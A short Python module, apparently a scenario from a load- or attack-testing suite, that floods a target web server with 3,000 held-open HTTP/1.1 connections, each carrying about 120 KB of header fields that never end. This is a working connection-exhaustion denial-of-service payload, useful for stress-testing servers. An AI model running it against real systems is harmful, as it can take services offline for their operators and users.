"""Three thousand HTTP/1.1 connections with 120 KB of header fields each, and no end of them."""

from wire import hold_connections

CONNECTIONS = 3_000


def flood(target, until):
    opening = b"GET / HTTP/1.1\r\nHost: a\r\n" + (b"note: " + b"x" * 60_000 + b"\r\n") * 2
    return hold_connections(target.http, until, opening, CONNECTIONS)
